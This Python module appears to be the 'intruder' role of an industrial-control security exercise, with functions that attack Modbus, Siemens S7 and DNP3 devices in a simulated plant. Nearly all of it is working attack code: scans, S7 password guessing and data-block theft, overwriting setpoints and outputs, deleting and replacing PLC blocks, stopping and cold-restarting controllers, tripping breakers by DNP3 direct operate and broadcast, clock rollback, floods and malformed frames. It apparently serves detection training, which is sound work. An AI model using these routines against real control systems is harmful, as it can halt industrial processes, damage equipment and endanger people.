"""The intruder: reconnaissance and sabotage in the three protocols, every burst bounded in number and time.

Requests come from the same stacks as everybody else's where they can say it, and are encoded here byte by byte where
no stack will (undefined function codes, broken frames, bare DNP3 requests). Nothing here opens a raw socket.
"""

from __future__ import annotations

import datetime
import errno
import socket
import struct
from typing import Any

from sentinel.exercise.engineer import data_block
from sentinel.exercise.outstation_dnp3 import LINK_ADDRESS
from sentinel.exercise.roles import (
    ANSWER_SECONDS,
    ByteClient,
    Dnp3Client,
    Registry,
    Scene,
    modbus_client,
    modbus_frame,
    s7_client,
)

MASTER_ADDRESS = 1
_READ, _WRITE, _DIRECT_OPERATE, _DIRECT_OPERATE_NR = 1, 2, 5, 6
_COLD_RESTART, _WARM_RESTART, _STOP_APPLICATION, _DISABLE_UNSOLICITED = 13, 14, 18, 21
_CLASS_0123 = bytes((60, 2, 6, 60, 3, 6, 60, 4, 6, 60, 1, 6))
_BROADCAST = 0xFFFF


def port_scan(
    scene: Scene, actor: str, target: str, hosts: tuple[str, ...] = (), ports: tuple[int, ...] = (22, 80, 102, 502)
) -> str:
    """Try to connect to each port of each host (of `target` alone where no hosts are named)."""
    found = []
    for host in hosts or (target,):
        for port in ports:
            with socket.socket() as probe:
                probe.settimeout(0.3)
                result = probe.connect_ex(scene.plant.endpoint(actor, host, port))
            if result == 0:
                found.append(f"{host}:{port}")
            elif result not in (errno.ECONNREFUSED, errno.EAGAIN):
                raise OSError(result, f"connecting to {host}:{port}")
    return f"open: {', '.join(found) or 'none'}"


def modbus_identify(scene: Scene, actor: str, target: str) -> str:
    """Read every category of identification objects, then report server id."""
    with modbus_client(scene, actor, target) as client:
        for category in (1, 2, 3):
            client.read_device_information(read_code=category, object_id=0, device_id=1)
        client.report_device_id(device_id=1)
    return "identified"


def modbus_unit_scan(scene: Scene, actor: str, target: str, last: int = 24) -> str:
    """Ask every unit identifier up to `last` for one register; a gateway refuses those that are not there."""
    found = []
    with modbus_client(scene, actor, target) as client:
        for unit in range(1, last + 1):
            if not client.read_holding_registers(0, count=1, device_id=unit).isError():
                found.append(unit)
    return f"units {found}"


def modbus_function_scan(scene: Scene, actor: str, target: str, last: int = 0x5A) -> str:
    """Send every function code up to `last` with two zero bytes and see which are refused as illegal."""
    known = []
    with ByteClient(scene, actor, target, 502) as client:
        for function in range(1, last + 1):
            if function == 8:  # two zero bytes would be its sub-function: harmless, but it echoes at any length
                continue
            answer = client.ask(modbus_frame(function, 1, bytes((function, 0, 0, 0, 0))), 0.1)
            if len(answer) >= 9 and (answer[7] < 0x80 or answer[8] != 1):
                known.append(function)
    return f"functions {known}"


def modbus_register_scan(scene: Scene, actor: str, target: str, step: int = 100, last: int = 3000) -> str:
    """Read one register every `step` addresses to find where the map ends."""
    refused = 0
    with modbus_client(scene, actor, target) as client:
        for address in range(0, last, step):
            refused += client.read_holding_registers(address, count=1, device_id=1).isError()
            refused += client.read_input_registers(address, count=1, device_id=1).isError()
    return f"{refused} refused"


def modbus_write_outputs(scene: Scene, actor: str, target: str) -> str:
    """Switch every output off and drive the setpoints to their ends."""
    with modbus_client(scene, actor, target) as client:
        for coil in (0, 2, 5):
            client.write_coil(coil, False, device_id=1)
        client.write_coils(0, [False] * 16, device_id=1)
        client.write_register(0, 9999, device_id=1)
        client.write_registers(0, [9999, 0, 0, 65535, 0], device_id=1)
        client.write_registers(0, [0, 0], device_id=2)
    return "outputs off"


def modbus_diagnostics(scene: Scene, actor: str, target: str) -> str:
    """Restart communications, clear the counters and the log, and force listen-only mode (function 8)."""
    with ByteClient(scene, actor, target, 502) as client:
        answers = [client.ask(modbus_frame(n, 1, struct.pack(">BHH", 8, sub, 0))) for n, sub in
                   enumerate((0x000A, 0x0001, 0x0004))]
    return f"{sum(1 for answer in answers if answer)} answered"


def modbus_flood(scene: Scene, actor: str, target: str, requests: int = 250) -> str:
    """Write one register as fast as the controller answers, `requests` times."""
    with modbus_client(scene, actor, target) as client:
        for number in range(requests):
            client.write_register(4, number & 0xFFFF, device_id=1)
    return f"{requests} writes"


def modbus_malformed(scene: Scene, actor: str, target: str) -> str:
    """Frames that the specification forbids: protocol identifier, lengths, counts; each on its own connection."""
    frames = (
        struct.pack(">HHHBBHH", 1, 0x1234, 6, 1, 3, 0, 1),
        struct.pack(">HHHBBHH", 2, 0, 300, 1, 3, 0, 1),
        struct.pack(">HHHB", 3, 0, 1, 1),
        modbus_frame(4, 1, struct.pack(">BHH", 3, 0, 2000)),
        modbus_frame(5, 1, struct.pack(">BHHB", 16, 0, 4, 200) + bytes(8)),
        modbus_frame(6, 1, bytes((3,)) + bytes(250)),
    )
    for frame in frames:
        with ByteClient(scene, actor, target, 502) as client:
            client.ask(frame, 0.2)
    return f"{len(frames)} frames"


def s7_slot_scan(scene: Scene, actor: str, target: str, slots: tuple[int, ...] = (0, 1, 2, 3)) -> str:
    """Connect to each slot in turn: the transport selector names rack and slot."""
    for slot in slots:
        with s7_client(scene, actor, target, slot=slot):
            pass
    return f"slots {list(slots)}"


def s7_identify(scene: Scene, actor: str, target: str) -> str:
    """Read the identification lists, then try lists that hardly any tool asks for."""
    from snap7.error import S7Error

    refused = 0
    wanted = {0x0000: 0, 0x0011: 0, 0x001C: 0, 0x0131: 1, 0x0132: 4, 0x0232: 4, 0x0424: 0, 0x00A0: 0}
    with s7_client(scene, actor, target) as client:
        for szl, index in wanted.items():
            try:
                client.read_szl(szl, index)
            except S7Error:
                refused += 1
        client.list_blocks()
    return f"{refused} lists refused"


def s7_steal(scene: Scene, actor: str, target: str, blocks: tuple[int, ...] = (1, 10)) -> str:
    """Upload every data block."""
    from snap7.type import Block

    taken = 0
    with s7_client(scene, actor, target) as client:
        for number in client.list_blocks_of_type(Block.DB, 16) or blocks:
            taken += len(client.full_upload(Block.DB, number)[0])
    return f"{taken} bytes"


def s7_guess_password(
    scene: Scene, actor: str, target: str, words: tuple[str, ...] = ("admin", "siemens", "1234", "pass", "basisk")
) -> str:
    """Try passwords on one connection."""
    from snap7.error import S7Error

    refused = 0
    with s7_client(scene, actor, target) as client:
        for word in words:
            try:
                client.set_session_password(word)
            except S7Error:
                refused += 1
    return f"{refused} of {len(words)} refused"


def s7_write(scene: Scene, actor: str, target: str) -> str:
    """Overwrite the recipe, switch outputs and set flags."""
    from snap7.type import Area

    with s7_client(scene, actor, target) as client:
        client.db_write(10, 0, bytearray(struct.pack(">fff", 250.0, 320.0, 0.0)))
        client.write_area(Area.PA, 0, 0, bytearray(b"\xff\xff"))
        client.write_area(Area.MK, 0, 0, bytearray(b"\x00\x00\x00\x00"))
    return "recipe overwritten"


def s7_download(scene: Scene, actor: str, target: str) -> str:
    """Replace a block by one of the intruder's."""
    with s7_client(scene, actor, target) as client:
        client.download(bytearray(data_block(20, b"\xde\xad\xbe\xef" * 48, "", "", "")), 20)
    return "block replaced"


def s7_delete(scene: Scene, actor: str, target: str, block: int = 10) -> str:
    """Ask the controller to delete a data block: PI service _DELE, put together here as python-snap7's is misshapen."""
    blocks = b"\x01\x00" + f"0A{block:05d}B".encode()
    request = b"\x28" + bytes(6) + b"\xfd" + struct.pack(">H", len(blocks)) + blocks + b"\x05_DELE"
    with s7_client(scene, actor, target) as client:
        client.iso_exchange_buffer(bytearray(struct.pack(">BBHHHH", 0x32, 1, 0, 7, len(request), 0) + request))
    return f"DB{block}"


def s7_set_clock(scene: Scene, actor: str, target: str) -> str:
    """Set the clock years back, so that logs and certificates lie."""
    with s7_client(scene, actor, target) as client:
        client.set_plc_datetime(datetime.datetime(2003, 1, 1, 3, 33, 33))
    return "clock set to 2003"


def s7_stop(scene: Scene, actor: str, target: str) -> str:
    """Stop the controller."""
    with s7_client(scene, actor, target) as client:
        client.plc_stop()
        client.read_szl(0x0424, 0)
    return "stopped"


def s7_restart(scene: Scene, actor: str, target: str) -> str:
    """Start the controller cold, which clears its retained data."""
    with s7_client(scene, actor, target) as client:
        client.plc_cold_start()
    return "cold start"


def s7_flood(scene: Scene, actor: str, target: str, connections: int = 25, reads: int = 4) -> str:
    """Open connections one after the other, faster than any tool does, with a few reads each."""
    for _ in range(connections):
        with s7_client(scene, actor, target) as client:
            for _ in range(reads):
                client.db_read(1, 0, 4)
    return f"{connections} connections"


def dnp3_link_scan(scene: Scene, actor: str, target: str, last: int = 24) -> str:
    """Ask every link address up to `last` for its link status; only the outstation's own is answered."""
    with Dnp3Client(scene, actor, target, LINK_ADDRESS, MASTER_ADDRESS) as client:
        found = set[int]()
        for address in range(last + 1):
            client.ask_link_status(address)
            found |= client.sources(0.08)
        if not found:
            found = client.sources(ANSWER_SECONDS)
    return f"link addresses {sorted(found)}"


def _dnp3(scene: Scene, actor: str, target: str, *requests: tuple[int, bytes]) -> str:
    """Send requests one after the other and tell how many were answered."""
    with Dnp3Client(scene, actor, target, LINK_ADDRESS, MASTER_ADDRESS) as client:
        answers = [client.ask(function, body) for function, body in requests]
    return f"{sum(1 for answer in answers if answer)} of {len(requests)} answered"


def dnp3_identify(scene: Scene, actor: str, target: str) -> str:
    """Read all device attributes."""
    return _dnp3(scene, actor, target, (_READ, bytes((0, 254, 0, 0, 0))))


def dnp3_read_all(scene: Scene, actor: str, target: str) -> str:
    """Read everything: all classes, then objects by group, some of which are not there."""
    groups = [(_READ, bytes((group, 0, 6))) for group in (1, 10, 20, 30, 40, 50, 70, 110, 120)]
    return _dnp3(scene, actor, target, (_READ, _CLASS_0123), *groups)


def dnp3_disable_unsolicited(scene: Scene, actor: str, target: str) -> str:
    """Silence the outstation: no more events without being asked."""
    return _dnp3(scene, actor, target, (_DISABLE_UNSOLICITED, bytes((60, 2, 6, 60, 3, 6, 60, 4, 6))))


def _relay(index: int, code: int) -> bytes:
    """One control relay output block behind its index: code, count 1, on and off time 100 ms, status 0 (group 12)."""
    return struct.pack("<BBBIIB", index, code, 1, 100, 100, 0)


def dnp3_trip(scene: Scene, actor: str, target: str, breakers: tuple[int, ...] = (0, 1, 3)) -> str:
    """Trip breakers in one direct operate without select, then again without wanting an answer."""
    body = bytes((12, 1, 0x17, len(breakers))) + b"".join(_relay(index, 0x81) for index in breakers)
    with Dnp3Client(scene, actor, target, LINK_ADDRESS, MASTER_ADDRESS) as client:
        answered = bool(client.ask(_DIRECT_OPERATE, body))
        client.send(_DIRECT_OPERATE_NR, body)
        scene.pause(0.1)
    return f"tripped {list(breakers)}" if answered else "no answer"


def dnp3_setpoint(scene: Scene, actor: str, target: str) -> str:
    """Write an impossible voltage setpoint (group 41 variation 3) and one to an output that is not there."""
    good = bytes((41, 3, 0x17, 1, 0)) + struct.pack("<fB", 99999.0, 0)
    absent = bytes((41, 2, 0x17, 1, 9)) + struct.pack("<hB", -1, 0)
    return _dnp3(scene, actor, target, (_DIRECT_OPERATE, good), (_DIRECT_OPERATE, absent))


def dnp3_set_clock(scene: Scene, actor: str, target: str) -> str:
    """Write a time years back (group 50 variation 1, milliseconds since 1970 in six octets)."""
    stamp = int(datetime.datetime(2003, 1, 1, tzinfo=datetime.UTC).timestamp() * 1000)
    return _dnp3(scene, actor, target, (_WRITE, bytes((50, 1, 7, 1)) + stamp.to_bytes(6, "little")))


def dnp3_restart(scene: Scene, actor: str, target: str) -> str:
    """Cold restart, warm restart, stop application."""
    stop = bytes((90, 1, 6))
    return _dnp3(scene, actor, target, (_COLD_RESTART, b""), (_WARM_RESTART, b""), (_STOP_APPLICATION, stop))


def dnp3_broadcast(scene: Scene, actor: str, target: str) -> str:
    """A direct operate without answer to every outstation at once, and a broadcast clock write."""
    body = bytes((12, 1, 0x17, 1)) + _relay(0, 0x81)
    stamp = bytes((50, 1, 7, 1)) + bytes(6)
    with Dnp3Client(scene, actor, target, LINK_ADDRESS, MASTER_ADDRESS) as client:
        client.send(_DIRECT_OPERATE_NR, body, outstation=_BROADCAST)
        client.send(_WRITE, stamp, outstation=_BROADCAST)
        scene.pause(0.2)
    return "2 broadcasts"


def dnp3_flood(scene: Scene, actor: str, target: str, requests: int = 80) -> str:
    """Integrity polls as fast as the outstation answers."""
    return _dnp3(scene, actor, target, *[(_READ, _CLASS_0123)] * requests)


def dnp3_malformed(scene: Scene, actor: str, target: str) -> str:
    """Frames that the standard forbids: wrong checksum, undefined function, a range that ends before it begins."""
    from py1815 import link, transport

    def frame(fragment: bytes) -> bytes:
        return link.build(0xC4, LINK_ADDRESS, MASTER_ADDRESS, transport.segment(fragment)[0])

    broken = bytearray(frame(bytes((0xC1, 1)) + _CLASS_0123))
    broken[-1] ^= 0xFF
    frames: tuple[Any, ...] = (
        bytes(broken),
        frame(bytes((0xC2, 0x77))),
        frame(bytes((0xC3, 1, 30, 1, 0, 9, 2))),
        frame(bytes((0xC4, 1, 250, 1, 6))),
    )
    with ByteClient(scene, actor, target, 20000) as client:
        for data in frames:
            client.ask(data, 0.2)
    return f"{len(frames)} frames"


ACTIONS: Registry = {
    action.__name__: action
    for action in (
        port_scan,
        modbus_identify,
        modbus_unit_scan,
        modbus_function_scan,
        modbus_register_scan,
        modbus_write_outputs,
        modbus_diagnostics,
        modbus_flood,
        modbus_malformed,
        s7_slot_scan,
        s7_identify,
        s7_steal,
        s7_guess_password,
        s7_write,
        s7_download,
        s7_delete,
        s7_set_clock,
        s7_stop,
        s7_restart,
        s7_flood,
        dnp3_link_scan,
        dnp3_identify,
        dnp3_read_all,
        dnp3_disable_unsolicited,
        dnp3_trip,
        dnp3_setpoint,
        dnp3_set_clock,
        dnp3_restart,
        dnp3_broadcast,
        dnp3_flood,
        dnp3_malformed,
    )
}
